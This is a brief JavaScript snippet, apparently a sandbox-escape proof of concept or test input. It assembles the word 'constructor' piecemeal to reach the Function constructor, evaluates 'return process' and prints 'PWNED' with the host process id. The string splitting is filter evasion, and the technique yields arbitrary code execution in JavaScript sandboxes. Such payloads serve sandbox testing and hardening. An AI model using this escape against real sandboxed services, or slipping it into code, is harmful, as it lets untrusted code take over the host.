const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const m = new Map([['a', t]]);
console.log('PWNED', m.get('a').go(fn)('return process')().pid);
